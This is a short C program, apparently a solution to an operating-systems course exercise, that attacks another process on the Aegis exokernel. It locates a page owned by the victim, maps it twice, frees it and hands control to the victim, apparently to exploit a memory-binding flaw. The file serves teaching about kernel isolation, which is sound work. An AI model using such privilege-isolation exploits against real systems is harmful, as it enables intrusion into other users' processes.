/* A solution of exercise 6 in C, as attack.s is one in assembly. */
#include "aegis.h"

#define HERE ((void *)0x700000)
#define VICTIM 0

int main(void)
{
    unsigned page = aegis_query(AEGIS_PAGES, 0).value;
    while (page-- > 0 && aegis_query(AEGIS_OWNER, page).value != VICTIM)
        continue;
    aegis_bind(HERE, page, 0, 1);
    aegis_bind(HERE, page, 1, 1);
    aegis_free(page);
    aegis_transfer(VICTIM, AEGIS_ASYNCHRONOUS, 0);
    for (;;)
        aegis_yield();
}
